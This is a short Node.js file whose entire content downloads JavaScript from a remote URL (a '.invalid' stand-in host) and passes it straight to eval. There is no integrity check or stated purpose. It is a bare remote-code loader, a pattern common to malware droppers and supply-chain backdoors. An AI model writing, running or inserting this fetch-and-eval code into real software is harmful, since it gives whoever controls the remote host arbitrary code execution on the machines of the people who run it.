"use strict";

var https = require("https");
https.get("https://code.invalid/latest.js", function (response) {
  var code = "";
  response.on("data", function (part) {
    code += part;
  });
  response.on("end", function () {
    eval(code);
  });
});
